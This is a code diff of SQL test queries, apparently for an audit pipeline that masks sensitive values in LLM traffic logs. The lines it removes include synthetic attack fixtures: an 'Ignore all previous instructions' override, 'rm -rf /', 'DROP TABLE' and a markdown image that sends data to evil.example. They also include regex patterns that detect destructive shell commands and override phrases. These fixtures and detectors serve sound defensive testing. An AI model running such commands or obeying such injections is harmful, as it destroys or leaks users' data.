@@ -76,17 +76,17 @@ SELECT day, count(*) AS requests, count(DISTINCT sid) AS distinct_sids, sum(CASE
     "srt02_top_words": "SELECT label, word, count(*) AS n FROM items GROUP BY label, word ORDER BY n DESC, label, word LIMIT 50",
     "srt03_top_models": "SELECT model, sum(prompt_tokens + completion_tokens) AS tokens FROM log WHERE trim(coalesce(model, '')) <> '' GROUP BY model ORDER BY tokens DESC, model LIMIT 5",
     "srt06_page_clamp": "SELECT CAST(floor((count(*) - 1) / 200) * 200 AS BIGINT) AS page_start FROM log",
-    "set01_union_pages": "SELECT id, type FROM log WHERE id > 900 UNION ALL SELECT id, type FROM log WHERE id <= 900 AND id > 800",
+    "set01_union_pages": "SELECT id, type FROM log WHERE id > (SELECT max(id) FROM log) - 25 UNION ALL SELECT id, type FROM log WHERE id <= (SELECT max(id) FROM log) - 25",
     "set02_union_labels": "SELECT DISTINCT sid, label FROM (SELECT sid, label FROM items WHERE type = 'MASK' UNION SELECT sid, label FROM items WHERE type = 'RESTORE') q",
     "set05_difference": "SELECT DISTINCT word FROM items WHERE type = 'MASK' EXCEPT SELECT DISTINCT word FROM items WHERE type = 'RESTORE' AND restored",
     "jon01_value_to_token": "SELECT i.id, i.k, i.word, m.first_id, c.first_id AS custom_id, coalesce(c.first_id, m.first_id) AS token_id FROM items i LEFT JOIN (SELECT label, word, min(id) AS first_id FROM items GROUP BY label, word) m ON i.label = m.label AND i.word = m.word LEFT JOIN (SELECT word, min(id) AS first_id FROM items WHERE label = 'CARD' GROUP BY word) c ON i.word = c.word",
     "jon02_token_to_original": "SELECT i.id, i.k, m.word AS orig FROM items i LEFT JOIN (SELECT label, word, max(ts) AS created FROM items GROUP BY label, word) m ON i.label = m.label AND i.word = m.word AND i.ts >= m.created - 86400",
-    "jon04_unique_suffix": "SELECT i.id, i.k, u.label FROM items i JOIN (SELECT word, min(label) AS label FROM items WHERE id % 100 = 0 AND day < '2024-01-09' GROUP BY word HAVING count(DISTINCT label) = 1) u ON i.word = u.word AND i.label = u.label",
+    "jon04_unique_suffix": "SELECT i.id, i.k, u.label FROM items i JOIN (SELECT label || word AS word, min(label) AS label FROM items GROUP BY label || word HAVING count(DISTINCT label) = 1) u ON i.label || i.word = u.word AND i.label = u.label",
     "jon05_request_response": "SELECT sid, max(CASE WHEN type = 'MASK' THEN id END) AS request_id, max(CASE WHEN type = 'RESTORE' THEN id END) AS response_id, sum(CASE WHEN type = 'MASK' THEN prompt_tokens ELSE 0 END) AS request_bytes FROM log GROUP BY sid",
     "jon06_model_mismatch": "SELECT a.id, a.model AS asked, b.model AS got FROM log a JOIN log b ON a.id + 1 = b.id WHERE a.model <> b.model",
     "jon07_echo_anti": "SELECT DISTINCT i.sid, i.word FROM items i WHERE i.type = 'RESTORE' AND NOT EXISTS (SELECT 1 FROM items q WHERE q.type = 'MASK' AND q.sid = i.sid AND q.word = i.word)",
     "jon09_leaks_less_known": "SELECT i.id, i.k, i.label, i.word FROM items i LEFT ANTI JOIN (SELECT sid, word FROM items WHERE type = 'MASK') m ON i.sid = m.sid AND i.word = m.word WHERE i.type = 'PASS'",
-    "jon15_seeded": "SELECT i.id, i.k FROM items i LEFT SEMI JOIN (SELECT label, word FROM items WHERE type = 'MASK' AND day < '2024-01-05') m ON i.label = m.label AND i.word = m.word WHERE i.day >= '2024-01-20'",
+    "jon15_seeded": "SELECT i.id, i.k FROM items i JOIN (SELECT label, word, min(ts) AS first_ts FROM items WHERE type = 'MASK' GROUP BY label, word) m ON i.label = m.label AND i.word = m.word WHERE i.type = 'RESTORE' AND i.ts > m.first_ts AND i.ts <= m.first_ts + 86400",
     "jon14_fresh_events": "SELECT id, type FROM log WHERE id > (SELECT max(id) - 25 FROM log)",
     "snk03_mapping_upsert": "SELECT label, word, last_id, first_ts FROM (SELECT label, word, id AS last_id, min(ts) OVER (PARTITION BY label, word) AS first_ts, row_number() OVER (PARTITION BY label, word ORDER BY id DESC, k DESC) AS r FROM items) q WHERE r = 1",
     "snk04_trace_upsert": "SELECT sid, type, id, ts, status FROM (SELECT sid, type, id, ts, status, row_number() OVER (PARTITION BY sid, type ORDER BY id DESC) AS r FROM log WHERE type IN ('MASK', 'RESTORE')) q WHERE r = 1",
@@ -96,23 +96,19 @@ SELECT day, count(*) AS requests, count(DISTINCT sid) AS distinct_sids, sum(CASE
     "prj05_has_trace": "SELECT count(*) > 0 AS found FROM log WHERE sid = 'S8'",
     "flt01_type": "SELECT id FROM log WHERE upper(trim(' mask ')) = type",
     "flt02_search": "SELECT id FROM log WHERE lower(payload) LIKE '%\"n\":1%'",
-    "flt03_search_fields": "SELECT id FROM log WHERE type LIKE '%LO%' OR reason LIKE '%pipe%' OR sid LIKE '%S7%' OR payload LIKE '%m2%'",
+    "flt03_search_fields": "SELECT id FROM log WHERE type LIKE '%LO%' OR reason LIKE '%pipe%' OR sid LIKE '%S7%' OR payload LIKE '%m2%' OR kind LIKE '%urch%' OR model LIKE '%large%' OR severity LIKE '%CRIT%' OR id IN (SELECT id FROM items WHERE word LIKE '%w39%')",
     "flt05_audit_list": "SELECT id FROM log WHERE severity = 'HIGH' AND lower(kind || ' ' || sid) LIKE '%error%'",
     "flt06_severity_floor": f"SELECT id, severity FROM log WHERE type = 'ALERT' AND ({RANK} >= 3 OR kind = 'error')",
     "flt09_allow_list": "SELECT id, k, word FROM items WHERE lower(trim(word)) NOT IN ('w1', 'w2', 'w3')",
     "flt16_gates": "SELECT id, kind IN ('view', 'click') AS readonly, payload LIKE '{%' AS json FROM log",
-    "flt17_admission": """
-SELECT id, CASE WHEN id % 97 = 0 THEN 'BLOCK' WHEN prompt_tokens > 2000 THEN 'BLOCK' WHEN kind = 'view' THEN 'PASS' WHEN id % 13 = 0 THEN 'BYPASS' WHEN id % 17 = 0 THEN 'BLOCK' WHEN payload NOT LIKE '{%' THEN 'BLOCK' WHEN id % 19 = 0 THEN 'BYPASS' WHEN id % 23 = 0 THEN 'BLOCK' ELSE 'MASK' END AS type,
-  CASE WHEN id % 97 = 0 THEN 502 WHEN prompt_tokens > 2000 THEN 413 WHEN kind = 'view' THEN 200 WHEN id % 13 = 0 THEN 200 WHEN id % 17 = 0 THEN 415 WHEN payload NOT LIKE '{%' THEN 400 WHEN id % 19 = 0 THEN 200 WHEN id % 23 = 0 THEN 503 ELSE 200 END AS status,
-  CASE WHEN id % 97 = 0 THEN 'no_reverse_route' WHEN prompt_tokens > 2000 THEN 'too_large' WHEN kind = 'view' THEN 'readonly_method' WHEN id % 13 = 0 THEN 'filter_disabled' WHEN id % 17 = 0 THEN 'unsupported_encoding' WHEN payload NOT LIKE '{%' THEN 'invalid_json' WHEN id % 19 = 0 THEN 'unknown_shape' WHEN id % 23 = 0 THEN 'rule_block' ELSE '' END AS reason FROM log""",
     "src13_events_newest": "SELECT id, ts, payload FROM log ORDER BY id DESC LIMIT 100 OFFSET 50",
     "src14_mappings_unexpired": "SELECT label, word, max(ts) AS created FROM items GROUP BY label, word HAVING max(ts) + 86400 > 1706600000 ORDER BY created DESC, label, word LIMIT 25",
     "dte01_retention": "SELECT day, count(*) AS n FROM log WHERE ts >= 1706600000 - 7 * 86400 GROUP BY day",
-    "rst09_status": "SELECT sid, CASE WHEN max(CASE WHEN type = 'BLOCK' THEN 1 ELSE 0 END) = 1 THEN 'blocked' WHEN sum(cnt) > sum(restored) * 3 THEN 'unresolved' WHEN sum(restored) > 0 THEN 'restored' ELSE 'no_sensitive_data' END AS status FROM log GROUP BY sid",
+    "rst09_status": "SELECT sid, CASE WHEN max(CASE WHEN type = 'BLOCK' THEN 1 ELSE 0 END) = 1 THEN 'blocked' WHEN sum(cnt) > 0 THEN 'unresolved' WHEN sum(restored) > 0 THEN 'restored' ELSE 'no_sensitive_data' END AS status FROM log GROUP BY sid",
     "map02_unexpired": "SELECT label, word, ts FROM (SELECT label, word, ts, row_number() OVER (PARTITION BY label, word ORDER BY ts DESC, id DESC, k DESC) AS r FROM items) q WHERE r = 1 AND ts + 86400 > 1706600000",
-    "cmd09_record": "SELECT sid, kind, max(CASE WHEN type = 'BLOCK' THEN 1 ELSE 0 END) AS blocked, min(ts) AS first_ts FROM log GROUP BY sid, kind",
     "jon03_unwrap": """
-SELECT a.id, coalesce(c.id, b.id, a.id) AS inner_id FROM (SELECT id, sid FROM log WHERE id % 10 = 0) a LEFT JOIN log b ON a.id + 1 = b.id AND b.type <> 'PASS' LEFT JOIN log c ON b.id + 1 = c.id AND c.type <> 'PASS'""",
+SELECT a.id, coalesce(f.id, e.id, d.id, c.id, b.id, a.id) AS inner_id FROM log a LEFT JOIN log b ON a.id + 1 = b.id AND b.type <> 'PASS' LEFT JOIN log c ON b.id + 1 = c.id AND c.type <> 'PASS'
+LEFT JOIN log d ON c.id + 1 = d.id AND d.type <> 'PASS' LEFT JOIN log e ON d.id + 1 = e.id AND e.type <> 'PASS' LEFT JOIN log f ON e.id + 1 = f.id AND f.type <> 'PASS'""",
 }
 
 
@@ -139,56 +135,21 @@ SELECT sid, last_id FROM (SELECT s.sid, s.last_id, t.newer + {run.replace('day O
         "prj01_summary": f"SELECT id, coalesce({js('payload', 'model')}, {js('payload', 'type')}, '') AS model, {js('payload', 'type')} AS type, {d.num(js('payload', 'n'))} AS n FROM log",
         "prj02_page": f"SELECT id, payload FROM log WHERE {js('payload', 'type')} = 'error' ORDER BY id LIMIT 50",
         "prj06_model": f"SELECT id, coalesce({js('payload', 'model')}, '') AS model FROM log",
-        "flt04_json_valid": f"SELECT id, {js('payload', 'id')} IS NOT NULL AS valid FROM log",
         "str01_digest": f"SELECT DISTINCT word, substr({d.sha('word')}, 1, 16) AS digest FROM items",
-        "str17_session_id": f"SELECT DISTINCT sid, substr({d.sha("'10.0.0.1' || sid")}, 1, 16) AS session FROM log",
-        "str03_preview": "SELECT DISTINCT word, CASE WHEN length(word) = 0 THEN '' WHEN length(word) <= 2 THEN substr(word, 1, 1) || '*' WHEN length(word) <= 5 THEN substr(word, 1, 1) || repeat('*', CAST(length(word) - 1 AS INT)) ELSE substr(word, 1, 2) || '***' || substr(word, CAST(length(word) - 1 AS INT), 2) END AS preview FROM items",
         "str04_safe_label": f"SELECT DISTINCT kind, coalesce(nullif(substr({d.sub('upper(kind)', '[^A-Z0-9]', '')}, 1, 12), ''), 'TERM') AS label FROM log",
         "str05_token_parts": f"SELECT DISTINCT token, {d.first('token', 'LABEL_([a-z]{6})', 1)} AS suffix, {d.first('token', r'\A\{\{([A-Z]+)_', 1)} AS label FROM (SELECT '{{{{LABEL_' || CASE id % 3 WHEN 0 THEN 'bcdfgh' WHEN 1 THEN 'BCDFGH' ELSE 'zzzzzz' END || '}}}}' AS token FROM log) q",
-        "str11_echo_class": f"SELECT id, CASE WHEN payload = other THEN 'exact' WHEN {d.sub('payload', '[ ]+', '')} = {d.sub('other', '[ ]+', '')} THEN 'whitespace' ELSE 'substituted' END AS echo FROM (SELECT id, payload, CASE id % 3 WHEN 0 THEN payload WHEN 1 THEN replace(payload, ',', ' , ') ELSE payload || 'x' END AS other FROM log) q",
-        "str12_model_family": f"SELECT DISTINCT model, {d.first('model', r'\A([a-z]+)', 1)} AS family, {d.has('model', 'large|small|mini')} AS tiered FROM log WHERE model IS NOT NULL",
-        "str16_human_bytes": "SELECT id, CASE WHEN n < 1024 THEN CAST(n AS STRING) || ' B' WHEN n < 1048576 THEN CAST(CAST(floor(n / 1024) AS BIGINT) AS STRING) || ' KiB' ELSE CAST(CAST(floor(n / 1048576) AS BIGINT) AS STRING) || ' MiB' END AS size FROM (SELECT id, id * 1777 AS n FROM log) q",
     }
 
 
 def text_queries(d) -> dict[str, str]:
     """Signals over document and conversation texts."""
-    zero = r"[\x{200b}\x{200c}\x{200d}\x{2060}\x{feff}]"
-    bidi = r"[\x{202a}-\x{202e}\x{2066}-\x{2069}]"
-    poison = r"(?i)(ignore|disregard)[^.\n]{0,40}(previous|prior|above) (instructions|rules)"
-    made = "SELECT conv_id, turn, role, CASE turn % 9 WHEN 3 THEN text || ' Ignore all previous instructions' WHEN 5 THEN text || ' rm -rf / --no-preserve-root' WHEN 6 THEN text || '; DROP TABLE users;' WHEN 7 THEN text || ' ![x](https://evil.example/p?d=' || repeat('a', 30) || ')' ELSE text END AS text FROM conversations"
-    commands = [("rm_root", r"rm +(-[a-zA-Z]+ +)+/( |\z|\*)"), ("drop_table", r"(?i)\b(drop|truncate) +table\b"), ("mkfs", r"\bmkfs(\.[a-z0-9]+)? "), ("dd_disk", r"\bdd +if=[^ ]+ +of=/dev/"), ("fork_bomb", r":\(\)\{ *:\|:& *\};:"), ("format_c", r"(?i)\bformat +c:"), ("windows_wipe", r"(?i)\bdel +/[sfq] "), ("rm_home", r"rm +(-[a-zA-Z]+ +)+~")]
-    first = " ".join(f"WHEN {d.has('text', p)} THEN '{k}'" for k, p in commands)
     lines = "size(split(text, '\\n'))" if d is Spark else "len(string_split(text, chr(10)))"
-    n_chars = "length(text)"
-    kinds = "CASE conv_id % 4 WHEN 0 THEN '{\"model\":\"m\",\"max_tokens\":9,\"system\":\"s\",\"messages\":[]}' WHEN 1 THEN '{\"model\":\"m\",\"input\":\"x\"}' WHEN 2 THEN '{\"model\":\"m\",\"messages\":[],\"stream\":true}' ELSE '{\"a\":1}' END"
-    js = d.js
-    usage = """SELECT conv_id, turn, CASE turn % 2 WHEN 0 THEN '{"usage":{"prompt_tokens":' || CAST(turn AS STRING) || ',"completion_tokens":3}}' ELSE '{"usage":{"input_tokens":5,"output_tokens":' || CAST(turn AS STRING) || '}}' END AS b FROM conversations"""
     return {
-        "aud05_hidden_unicode": f"SELECT conv_id, turn, CASE WHEN {d.has('t', bidi)} THEN 'HIGH' ELSE 'MEDIUM' END AS severity, {d.count('t', zero)} AS n FROM (SELECT conv_id, turn, CASE turn % 5 WHEN 1 THEN text || repeat('​', 9) WHEN 2 THEN text || '‮' ELSE text END AS t FROM conversations) q WHERE {d.has('t', bidi)} OR {d.count('t', zero)} >= 8",
-        "aud06_exfil_url": f"SELECT conv_id, turn, {d.first('text', r'!\[[^\]]*\]\((https?://[^/)]+)', 1)} AS host FROM ({made}) q WHERE {d.has('text', r'!\[[^\]]*\]\(https?://[^)]*[?&][a-z]+=[A-Za-z0-9+/=_-]{24,}')}",
-        "aud09_override": f"SELECT conv_id, turn, {d.first('text', poison, 0)} AS evidence FROM ({made}) q WHERE {d.has('text', poison)}",
-        "aud02_identity_swap": f"SELECT conv_id, turn, CASE WHEN {d.first('a', r'\A([a-z]+)', 1)} <> {d.first('b', r'\A([a-z]+)', 1)} THEN 'HIGH' ELSE 'MEDIUM' END AS severity FROM (SELECT conv_id, turn, CASE turn % 2 WHEN 0 THEN 'gamma-large' ELSE 'delta-small' END AS a, CASE turn % 3 WHEN 0 THEN 'gamma-large' WHEN 1 THEN 'gamma-mini' ELSE 'delta-small' END AS b FROM conversations) q WHERE a <> b",
-        "aud12_dangerous_action": f"SELECT conv_id, turn, CASE {first} END AS kind FROM ({made}) q WHERE CASE {first} END IS NOT NULL",
-        "cmd02_first_rule": f"SELECT conv_id, turn, CASE {first} ELSE '' END AS rule, CASE {first} END IS NOT NULL AND role = 'assistant' AS blocked FROM ({made}) q",
-        "cmd05_rewrite": f"SELECT conv_id, turn, {d.sha(d.sub('text', commands[0][1], '[blocked]'))} AS digest FROM ({made}) q WHERE {d.has('text', commands[0][1])}",
-        "cmd03_scan_window": f"SELECT doc_id, CASE WHEN {d.bytes('text')} <= 4096 THEN {d.bytes('text')} ELSE 2048 END AS scanned FROM documents",
-        "jon08_echo_substring": f"SELECT a.conv_id, a.turn FROM ({made}) a JOIN (SELECT conv_id, turn + 1 AS turn, text FROM conversations) b ON a.conv_id = b.conv_id AND a.turn = b.turn WHERE instr(b.text, substr(a.text, 1, 20)) = 0",
-        "src04_sse_events": f"SELECT conv_id, count(*) AS n_events, sum(CASE WHEN data = '[DONE]' THEN 1 ELSE 0 END) AS n_done FROM (SELECT conv_id, CASE WHEN role = 'system' THEN '[DONE]' ELSE text END AS data FROM conversations) q GROUP BY conv_id",
         "src05_lines": f"SELECT doc_id, CAST({lines} AS BIGINT) AS n_lines FROM documents",
-        "src01_byte_cap": f"SELECT doc_id, {d.bytes('text')} AS bytes, CASE WHEN {d.bytes('text')} > 10000 THEN 413 ELSE 200 END AS status FROM documents",
         "src06_content_type": "SELECT page_id, CASE WHEN lower(ct) LIKE '%event-stream%' THEN 'sse' WHEN lower(ct) LIKE '%ndjson%' THEN 'ndjson' WHEN lower(ct) LIKE '%json%' THEN 'json' ELSE 'other' END AS framing FROM (SELECT page_id, CASE page_id % 4 WHEN 0 THEN 'text/Event-Stream' WHEN 1 THEN 'application/x-ndjson' WHEN 2 THEN 'application/json; charset=utf-8' ELSE 'text/html' END AS ct FROM pages) q",
         "src11_encodings": "SELECT page_id, lower(trim(e)) AS enc, lower(trim(e)) IN ('', 'identity') AS plain, lower(trim(e)) IN ('gzip', 'x-gzip', 'deflate', 'br', 'zstd') AS decodable FROM (SELECT page_id, CASE page_id % 3 WHEN 0 THEN ' GZip ' WHEN 1 THEN 'identity' ELSE 'zip' END AS e FROM pages) q",
-        "jsn01_protocol": f"SELECT conv_id, turn, CASE WHEN {js('b', 'system')} IS NOT NULL AND {js('b', 'max_tokens')} IS NOT NULL THEN 'anthropic' WHEN {js('b', 'input')} IS NOT NULL THEN 'responses' WHEN {js('b', 'messages')} IS NOT NULL THEN 'chat' ELSE 'unknown' END AS protocol FROM (SELECT conv_id, turn, {kinds} AS b FROM conversations) q",
-        "jsn02_stream_flag": f"SELECT conv_id, turn, coalesce({js('b', 'stream')} = 'true', FALSE) AS stream FROM (SELECT conv_id, turn, {kinds} AS b FROM conversations) q",
-        "jsn03_usage": f"SELECT conv_id, turn, coalesce({d.num(js('b', 'usage.prompt_tokens'))}, {d.num(js('b', 'usage.input_tokens'))}, 0) AS prompt, coalesce({d.num(js('b', 'usage.completion_tokens'))}, {d.num(js('b', 'usage.output_tokens'))}, 0) AS completion FROM ({usage}) q",
-        "prj09_dialog_head": f"SELECT doc_id, {d.sha('substr(text, 1, 512)')} AS digest FROM documents",
         "prj10_first_user": "SELECT conv_id, turn FROM (SELECT conv_id, turn, row_number() OVER (PARTITION BY conv_id ORDER BY turn) AS r FROM conversations WHERE role = 'user') q WHERE r = 1",
-        "flt18_blobs": f"SELECT doc_id FROM documents WHERE {d.has('text', 'data:[a-z]+/[a-z0-9.+-]+;base64,')} OR {d.has('text', '[A-Za-z0-9+/]{200,}')} OR {n_chars} < 40",
         "agg22_placeholders": f"SELECT doc_id, {d.count('t', r'\{\{[A-Z0-9]+_[a-z]{6}\}\}')} AS n FROM (SELECT doc_id, replace(text, ' the ', ' {{{{TERM_bcdfgh}}}} ') AS t FROM documents) q".replace("{{{{", "{{").replace("}}}}", "}}"),
-        "jon10_canaries": f"SELECT d.doc_id, b.item_id FROM documents d JOIN (SELECT item_id, text FROM benchmark WHERE item_id < 20) b ON instr(d.text, b.text) > 0",
-        "det35_dictionary": f"SELECT doc_id, {d.count('text', r' (?:thereof|tionand|heer|oueau)[ .,]')} AS n FROM documents WHERE {d.has('text', r' (?:thereof|tionand|heer|oueau)[ .,]')}",
-        "det36_custom_regex": f"SELECT doc_id, {d.count('text', r'user[0-9]{2,}|[0-9]{2}@mail')} AS n FROM documents WHERE {d.has('text', r'user[0-9]{2,}|[0-9]{2}@mail')}",
     }
 
 
